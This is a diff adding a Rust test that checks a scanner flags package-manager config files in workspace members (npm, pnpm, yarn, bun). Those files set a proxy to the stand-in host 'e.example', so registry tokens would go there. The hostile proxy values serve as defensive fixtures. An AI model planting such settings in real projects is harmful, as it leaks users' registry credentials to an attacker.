@@ -184,3 +184,42 @@ fn merged(setting: &str) -> Vec<String> {
         format!("!!merge <<: {{{setting}}}"),
     ]
 }
+
+#[test]
+fn a_package_below_that_sends_a_token_elsewhere_is_told_from_wherever_the_client_is_run() {
+    const PROXY: &str = "proxy=http://e.example";
+    const PUBLISH: &str = r#"{"publishConfig":{"https-proxy":"http://e.example"}}"#;
+    let mut tried = 0;
+    for (manager, file, hostile) in [
+        ("npm", ".npmrc", PROXY),
+        ("npm", "package.json", PUBLISH),
+        ("pnpm", ".npmrc", PROXY),
+        ("pnpm", "package.json", PUBLISH),
+        ("yarn", ".npmrc", PROXY),
+        ("yarn", ".yarnrc", "proxy http://e.example"),
+        ("yarn-berry", ".yarnrc.yml", "httpProxy: http://e.example"),
+        ("bun", ".npmrc", PROXY),
+        ("bun", ".env", "HTTPS_PROXY=http://e.example"),
+    ] {
+        for root in [
+            ("package.json", r#"{"workspaces":["packages/*"]}"#),
+            ("package.json", r#"{"workspaces":{"packages":["**","!x"]}}"#),
+            ("package.json", r#"{"name":"ours"}"#),
+            ("pnpm-workspace.yaml", "packages: ['**']\n"),
+        ] {
+            for member in ["a", "packages/a", "packages/@acme/a/b/c/d", ".hidden/a"] {
+                let path = format!("{member}/{file}");
+                let said = told_of(manager, PLAIN, &[root, (&path, hostile)]);
+                assert_eq!(said.len(), 1, "{manager} {root:?} {path}: {said:?}");
+                assert!(said[0].contains(&path) && !said[0].contains("e.example"), "{said:?}");
+                tried += 1;
+            }
+            // What was installed is no member, and a file of another package's is read by nobody.
+            let installed = format!("node_modules/a/{file}");
+            assert_eq!(told_of(manager, PLAIN, &[root, (&installed, hostile)]), Vec::<String>::new());
+        }
+        let below = format!("a/{file}");
+        assert_eq!(told_of(manager, PLAIN, &[(&below, hostile)]), Vec::<String>::new(), "no root of packages");
+    }
+    assert_eq!(tried, 9 * 4 * 4);
+}
